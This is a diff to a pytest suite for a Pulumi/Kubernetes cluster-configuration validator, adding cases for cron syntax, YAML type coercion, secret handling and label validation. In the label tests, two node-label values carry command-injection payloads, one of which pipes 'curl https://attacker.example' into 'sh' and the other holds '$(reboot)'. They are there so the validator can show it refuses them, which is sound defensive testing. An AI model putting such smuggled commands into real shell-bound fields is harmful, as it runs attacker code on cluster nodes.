@@ -58,6 +58,11 @@ def set_section(name: str, value):
     return mutate
 
 
+def secure(letter: str) -> dict:
+    """A `secure:` leaf in the shape Pulumi writes (`v1:<nonce>:<ciphertext>`), distinct per letter."""
+    return {"secure": f"v1:AAAA:{letter * 4}"}
+
+
 PLAIN_SECRET = "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path 'complete-cluster:{}' <value> --stack {}`"
 
 CASES = [
@@ -527,7 +532,7 @@ CASES = [
         "onprem-dc2",
         set_in("infrastructure", "etcd_snapshots", {"schedule": "every 6h"}),
         "infrastructure.etcd_snapshots.schedule",
-        "`every 6h` is not a cron schedule with five fields such as `0 */6 * * *`",
+        "`every 6h` is not a cron expression: it needs 5 fields (minute hour day-of-month month day-of-week), not 2",
     ),
     (
         "snapshot-restore-generation-zero",
@@ -608,7 +613,7 @@ CASES = [
             {
                 "kind": "s3",
                 "endpoint": "https://s3.example.com",
-                "credentials": {"access_key_id": {"secure": "v1:AAAA"}, "secret_access_key": {"secure": "v1:BBBB"}},
+                "credentials": {"access_key_id": secure("A"), "secret_access_key": secure("B")},
             },
         ),
         "storage",
@@ -619,7 +624,7 @@ CASES = [
         "azure-storage-without-aks",
         "local",
         lambda d: (
-            set_section("infrastructure", {"kind": "existing", "kubeconfig": {"secure": "v1:CCCC"}})(d),
+            set_section("infrastructure", {"kind": "existing", "kubeconfig": secure("C")})(d),
             set_section("storage", {"kind": "azure_blob"})(d),
         ),
         "storage.kind",
@@ -907,7 +912,7 @@ CASES = [
         "prod",
         set_in("infrastructure", "node_pools.database.premium_disks", "sometimes"),
         "infrastructure.node_pools.database.premium_disks",
-        "Input should be a valid boolean, unable to interpret input",
+        "Input should be a valid boolean; write true or false, unquoted",
     ),
     (
         "rancher-server-not-url",
@@ -935,7 +940,7 @@ CASES = [
         "prod",
         set_in("storage", "versioning", "maybe"),
         "storage.versioning",
-        "Input should be a valid boolean, unable to interpret input",
+        "Input should be a valid boolean; write true or false, unquoted",
     ),
     (
         "ca-validity-too-short",
@@ -1012,7 +1017,7 @@ CASES = [
     (
         "webhook-receiver-without-credentials",
         "prod",
-        set_in("services", "monitoring.receivers", [{"kind": "webhook", "name": "incidents", "url": {"secure": "v1:x"}}]),
+        set_in("services", "monitoring.receivers", [{"kind": "webhook", "name": "incidents", "url": secure("x")}]),
         "services.monitoring.receivers[0].bearer_token",
         "a webhook receiver needs credentials: set `bearer_token` or `basic_auth` (with `pulumi config set --secret --path ...`)",
     ),
@@ -1022,7 +1027,7 @@ CASES = [
         set_in(
             "services",
             "monitoring.receivers",
-            [{"kind": "webhook", "name": "incidents", "url": "https://hooks.example.com/x", "bearer_token": {"secure": "v1:x"}}],
+            [{"kind": "webhook", "name": "incidents", "url": "https://hooks.example.com/x", "bearer_token": secure("x")}],
         ),
         "services.monitoring.receivers[0].url",
         "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path "
@@ -1034,7 +1039,7 @@ CASES = [
         set_in(
             "services",
             "monitoring.receivers",
-            [{"kind": "webhook", "name": "incidents", "url": {"secure": "v1:x"}, "basic_auth": {"username": "am", "password": "hunter2"}}],
+            [{"kind": "webhook", "name": "incidents", "url": secure("x"), "basic_auth": {"username": "am", "password": "hunter2"}}],
         ),
         "services.monitoring.receivers[0].basic_auth.password",
         "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path "
@@ -1085,7 +1090,7 @@ CASES = [
     (
         "reduced-monitoring-with-receivers",
         "dev",
-        set_in("services", "monitoring", {"receivers": [{"kind": "pagerduty", "name": "oncall", "routing_key": {"secure": "v1:x"}}]}),
+        set_in("services", "monitoring", {"receivers": [{"kind": "pagerduty", "name": "oncall", "routing_key": secure("x")}]}),
         "services.monitoring.receivers",
         "`reduced` monitoring runs no Alertmanager, so receivers would never be called; set `mode: full` or remove them",
     ),
@@ -1189,7 +1194,7 @@ CASES = [
         "prod",
         set_in("services", "monitoring.enabled", "sometimes"),
         "services.monitoring.enabled",
-        "Input should be a valid boolean, unable to interpret input",
+        "Input should be a valid boolean; write true or false, unquoted",
     ),
     (
         "receiver-with-both-credentials",
@@ -1201,9 +1206,9 @@ CASES = [
                 {
                     "kind": "webhook",
                     "name": "incidents",
-                    "url": {"secure": "v1:x"},
-                    "bearer_token": {"secure": "v1:y"},
-                    "basic_auth": {"username": "am", "password": {"secure": "v1:z"}},
+                    "url": secure("x"),
+                    "bearer_token": secure("y"),
+                    "basic_auth": {"username": "am", "password": secure("z")},
                 }
             ],
         ),
@@ -1220,8 +1225,8 @@ CASES = [
                 {
                     "kind": "webhook",
                     "name": "incidents",
-                    "url": {"secure": "v1:x"},
-                    "basic_auth": {"username": "", "password": {"secure": "v1:z"}},
+                    "url": secure("x"),
+                    "basic_auth": {"username": "", "password": secure("z")},
                 }
             ],
         ),
@@ -1232,7 +1237,7 @@ CASES = [
         "receiver-bearer-token-plain",
         "prod",
         set_in(
-            "services", "monitoring.receivers", [{"kind": "webhook", "name": "incidents", "url": {"secure": "v1:x"}, "bearer_token": "abc"}]
+            "services", "monitoring.receivers", [{"kind": "webhook", "name": "incidents", "url": secure("x"), "bearer_token": "abc"}]
         ),
         "services.monitoring.receivers[0].bearer_token",
         "must be a Pulumi secret, not plain text: run `pulumi config set --secret --path "
@@ -1279,14 +1284,14 @@ CASES = [
         "prod",
         set_in("services", "logging.audit_logs", "maybe"),
         "services.logging.audit_logs",
-        "Input should be a valid boolean, unable to interpret input",
+        "Input should be a valid boolean; write true or false, unquoted",
     ),
     (
         "tracing-enabled-not-bool",
         "prod",
         set_in("services", "tracing.enabled", "sometimes"),
         "services.tracing.enabled",
-        "Input should be a valid boolean, unable to interpret input",
+        "Input should be a valid boolean; write true or false, unquoted",
     ),
     (
         "registry-replication-secret-missing",
@@ -1478,6 +1483,132 @@ CASES = [
         "services.redis.sentinels",
         "Sentinels elect a new master by majority; run an odd number, not 2",
     ),
+    # Issue 18 item 3: silent accepts. Every regex validates the whole value (`$` matched before a final newline).
+    (
+        "team-name-trailing-newline",
+        "prod",
+        set_in("teams", "0.name", "payments\n"),
+        "teams[0].name",
+        "`payments\n` is not a valid Kubernetes name: use at most 63 lower-case letters, digits and '-', starting and ending with a "
+        "letter or digit",
+    ),
+    (
+        "image-trailing-newline",
+        "prod",
+        set_in("teams", "0.workloads.0.image", "platformacr.azurecr.io/payments/payments-api:2.14.0\n"),
+        "teams[0].workloads[0].image",
+        "`platformacr.azurecr.io/payments/payments-api:2.14.0\n` is not a full image reference; write "
+        "`registry.example.com/team/app:1.4.2` or pin a digest with `@sha256:...`",
+    ),
+    ("budget-infinite", "prod", set_section("policy", {"budget_monthly": float("inf")}), "policy.budget_monthly",
+     "Input should be a finite number"),
+    ("budget-nan", "prod", set_section("policy", {"budget_monthly": float("nan")}), "policy.budget_monthly",
+     "Input should be a finite number"),
+    ("replicas-boolean", "prod", set_in("teams", "0.workloads.0.replicas", True), "teams[0].workloads[0].replicas",
+     "Input should be a valid integer"),
+    ("replicas-fraction", "prod", set_in("teams", "0.workloads.0.replicas", 2.5), "teams[0].workloads[0].replicas",
+     "Input should be a valid integer"),
+    ("spot-as-string", "prod", set_in("infrastructure", "node_pools.ai.spot", "yes"), "infrastructure.node_pools.ai.spot",
+     "Input should be a valid boolean; write true or false, unquoted"),
+    *[
+        (
+            f"secure-{name}",
+            "prod",
+            set_in("services", "monitoring.receivers.0.routing_key", {"secure": value}),
+            "services.monitoring.receivers[0].routing_key",
+            "`secure:` holds the ciphertext Pulumi wrote, and this is not one (empty, not text, or not Pulumi's base64); set it again "
+            "with `pulumi config set --secret --path 'complete-cluster:services.monitoring.receivers[0].routing_key' <value> --stack prod`",
+        )
+        for name, value in [("null", None), ("empty", ""), ("list", ["v1:a"]), ("garbage", "hunter2!"), ("truncated", "v1:syDuaJakBnzm")]
+    ],
+    (
+        "env-plain-password",
+        "prod",
+        set_in("teams", "0.workloads.1.env", {"LOG_LEVEL": "info", "DB_PASSWORD": "hunter2"}),
+        "teams[0].workloads[1].env.DB_PASSWORD",
+        "looks like a credential, and a workload's env is plain text in its Deployment; take it from the services the workload `uses` "
+        "(their Secrets are referenced, never copied), or remove it",
+    ),
+    (
+        "env-pulumi-secret",
+        "prod",
+        set_in("teams", "0.workloads.1.env", {"SIGNING": {"secure": "v1:syDuaJakBnzmJ8bb:CWDojc6+pV+7InCbhe9q5U5H8ETd"}}),
+        "teams[0].workloads[1].env.SIGNING",
+        "a workload's env is plain text in its Deployment; it cannot carry a Pulumi secret: credentials come from the services it "
+        "`uses` (their Secrets are referenced, never copied)",
+    ),
+    # Issue 18 item 5: node labels go into the node registration shell command: only Kubernetes' shapes.
+    (
+        "machine-pool-label-injection",
+        "onprem-dc2",
+        set_in("infrastructure", "machine_pools.database.labels.nodeType", "database; curl https://attacker.example | sh"),
+        "infrastructure.machine_pools.database.labels.nodeType",
+        "`database; curl https://attacker.example | sh` is not a Kubernetes label value: at most 63 letters, digits, '-', '_' and '.', "
+        "starting and ending with a letter or digit",
+    ),
+    (
+        "machine-pool-label-key",
+        "onprem-dc2",
+        set_in("infrastructure", "machine_pools.database.labels", {"$(reboot)": "x"}),
+        "infrastructure.machine_pools.database.labels.$(reboot)",
+        "is not a Kubernetes label key: an optional DNS subdomain prefix and `/`, then at most 63 letters, digits, '-', '_' and '.', "
+        "starting and ending with a letter or digit",
+    ),
+    # Issue 18 item 6: platform rules, as Kubernetes (robfig/cron v3 for schedules), AKS and RBAC apply them.
+    *[
+        (f"cron-{name}", "prod", set_in("teams", "0.workloads.2.schedule", schedule), "teams[0].workloads[2].schedule",
+         f"`{schedule}` is not a cron expression: `{part}` is not a valid {field}")
+        for name, schedule, part, field in [
+            ("day-of-week-7", "30 2 * * 7", "7", "day of week (0-6)"),
+            ("open-range", "30 2 * * 1-", "1-", "day of week (0-6)"),
+            ("empty-step", "*/ 2 * * *", "*/", "minute (0-59)"),
+            ("two-hyphens", "1-2-3 2 * * *", "1-2-3", "minute (0-59)"),
+            ("zero-step", "*/0 2 * * *", "*/0", "minute (0-59)"),
+            ("name-in-minutes", "mon 2 * * *", "mon", "minute (0-59)"),
+        ]
+    ],
+    ("cron-time-zone", "prod", set_in("teams", "0.workloads.2.schedule", "CRON_TZ=UTC 30 2 * * *"), "teams[0].workloads[2].schedule",
+     "`CRON_TZ=UTC 30 2 * * *` names a time zone; Kubernetes refuses TZ or CRON_TZ in a schedule"),
+    ("snapshot-schedule-day-8", "onprem-dc2", set_in("infrastructure", "etcd_snapshots", {"schedule": "0 1 * * 8"}),
+     "infrastructure.etcd_snapshots.schedule", "`0 1 * * 8` is not a cron expression: `8` is not a valid day of week (0-6)"),
+    ("dns-service-ip-first", "prod", set_in("infrastructure", "network.dns_service_ip", "172.16.0.1"),
+     "infrastructure.network.dns_service_ip",
+     "172.16.0.1 is the first address of service_cidr, which Kubernetes gives to the API server's Service; use another, such as "
+     "172.16.0.10"),
+    ("dns-service-ip-network", "prod", set_in("infrastructure", "network.dns_service_ip", "172.16.0.0"),
+     "infrastructure.network.dns_service_ip",
+     "172.16.0.0 is not a host address of service_cidr 172.16.0.0/16; use one such as 172.16.0.10"),
+    ("ingress-path-relative", "prod", set_in("teams", "0.workloads.0.path", "api"), "teams[0].workloads[0].path",
+     "`api` is not an absolute HTTP path: start it with `/`, without spaces or control characters"),
+    ("ingress-path-dot-dot", "prod", set_in("teams", "0.workloads.0.path", "/api/../admin"), "teams[0].workloads[0].path",
+     "`/api/../admin` must not contain `/../` (Kubernetes refuses it in an Ingress path)"),
+    ("health-path-relative", "prod", set_in("teams", "0.workloads.1.health_path", "healthz"), "teams[0].workloads[1].health_path",
+     "`healthz` is not an absolute HTTP path: start it with `/`, without spaces or control characters"),
+    *[
+        (f"group-{name}", "prod", set_in("teams", "0.groups", [group]), "teams[0].groups[0]",
+         f"`{group}` is not a directory group name: write the group's name, without surrounding spaces or control characters")
+        for name, group in [("empty", ""), ("blank", "  "), ("padded", "payments-developers "), ("newline", "payments\nadmins")]
+    ],
+    ("platform-group-empty", "prod", set_section("policy", {"platform_groups": [""]}), "policy.platform_groups[0]",
+     "`` is not a directory group name: write the group's name, without surrounding spaces or control characters"),
+    # Issue 18 item 8: YAML's reading of unquoted scalars and keys, said so with what to do.
+    ("version-read-as-number", "prod", set_in("infrastructure", "kubernetes_version", 1.30), "infrastructure.kubernetes_version",
+     "Input should be a valid string; YAML read it as the number 1.3 (unquoted, 1.30 reads as 1.3): put the value in quotes as "
+     "written (`\"1.30\"`)"),
+    ("group-read-as-boolean", "prod", set_in("teams", "0.groups", [False]), "teams[0].groups[0]",
+     "Input should be a valid string; YAML reads unquoted yes/no/on/off/true/false as a boolean (here false): put the word in "
+     "quotes as written (`\"off\"`)"),
+    ("env-value-read-as-number", "prod", set_in("teams", "0.workloads.1.env", {"WORKERS": 4}), "teams[0].workloads[1].env.WORKERS",
+     "Input should be a valid string; YAML read it as the number 4: put it in quotes (`\"4\"`)"),
+    ("enabled-quoted", "prod", set_in("services", "kafka.enabled", "off"), "services.kafka.enabled",
+     "Input should be a valid boolean; write true or false, unquoted"),
+    ("node-pool-key-number", "prod", set_in("infrastructure", "node_pools", {1: {"vm_size": "Standard_D4s_v5", "min_count": 1,
+                                                                                 "max_count": 2}}),
+     "infrastructure.node_pools.1", "the key `1` is not text: YAML read it as a number; put it in quotes"),
+    ("quantity-negative", "prod", set_in("teams", "0.quota.cpu", "-4"), "teams[0].quota.cpu",
+     "`-4` is negative; a request, limit or quota is zero or more"),
+    ("quantity-beyond-int64", "prod", set_in("teams", "0.quota.memory", "1e19"), "teams[0].quota.memory",
+     "`1e19` is larger than Kubernetes' largest quantity (2^63-1)"),
     (
         "acme-behind-internal-load-balancer",
         "prod",
@@ -1549,3 +1680,46 @@ def test_yaml_syntax_error_names_the_line(tmp_path):
     with pytest.raises(ConfigError) as raised:
         evaluate("prod", stack_file)
     assert raised.value.problems[0][1].startswith("line 4, column 1: not valid YAML")
+
+
+def test_every_layer_is_reported_at_once(tmp_path):
+    """A file-level key, a field error, a cross-section rule and a cross-stack rule in one report (issue 18
+    item 7): each layer used to hide the next, and a team's bad `uses` instance vanished whenever another
+    section had an error (issue 17 item 9)."""
+    document = copy.deepcopy(BASE["onprem-dc2"])
+    document["config"]["tags"] = "platform"
+    set_in("infrastructure", "network.cluster_cidr", "10.42.0.0/16")(document)
+    set_section("policy", {"budget_monthly": -1})(document)
+    set_section("teams", [copy.deepcopy(section(BASE["prod"], "teams")[0])])(document)
+    section(document, "teams")[0]["workloads"][0]["uses"] = [{"service": "postgres", "instance": "ledger"}]
+    section(document, "teams")[0]["workloads"][0]["image"] = "harbor.dc2.example.com/payments/payments-api:2.14.0"
+    stack_file = tmp_path / "Pulumi.onprem-dc2.yaml"
+    stack_file.write_text(yaml.safe_dump(document, sort_keys=False))
+    with pytest.raises(ConfigError) as raised:
+        evaluate("onprem-dc2", stack_file)
+    assert raised.value.problems == [
+        ("tags", "not a key of this project; write it as `complete-cluster:<section>` (sections: environment, site, ownership, "
+                 "infrastructure, storage, services, teams, policy, charts)"),
+        ("policy.budget_monthly", "Input should be greater than 0"),
+        ("teams[0].workloads[0].uses[0].instance", "team `payments` declares no postgres instance `ledger`; its databases: `db`. "
+                                                   "Declare it under teams[0].databases or name one that exists"),
+        ("infrastructure.network.cluster_cidr", "10.42.0.0/16 overlaps cluster_cidr of `onprem-dc1` (10.42.0.0/16); the sites of one "
+                                                "environment need disjoint ranges"),
+    ], str(raised.value)
+
+
+def test_values_the_target_systems_accept_are_accepted(tmp_path):
+    """Valid values once refused: an image path component with `--` (the OCI distribution spec's
+    `[a-z0-9]+((\\.|_|__|-+)[a-z0-9]+)*`), quantities in each form of Kubernetes' grammar, and schedules
+    robfig/cron reads (names, `?`, `N/step`)."""
+    document = copy.deepcopy(BASE["prod"])
+    workloads = section(document, "teams")[0]["workloads"]
+    workloads[1]["image"] = "platformacr.azurecr.io/payments/settlement--worker:2.14.0"
+    workloads[1]["resources"] = {"cpu_request": ".1", "cpu_limit": "5e-1", "memory_request": "128Mi", "memory_limit": "1.e9"}
+    workloads[2]["schedule"] = "30/15 2 ? * sun-sat"
+    section(document, "teams")[0]["quota"] = {"cpu": "16e0", "memory": "32Gi", "pods": 100, "storage": "200Gi"}
+    stack_file = tmp_path / "Pulumi.prod.yaml"
+    stack_file.write_text(yaml.safe_dump(document, sort_keys=False))
+    registrations = evaluate("prod", stack_file)
+    deployments = [r for r in registrations if r.type == "kubernetes:apps/v1:Deployment" and "settlement-worker" in r.name]
+    assert [d.inputs["spec"]["template"]["spec"]["containers"][0]["image"] for d in deployments] == [workloads[1]["image"]]
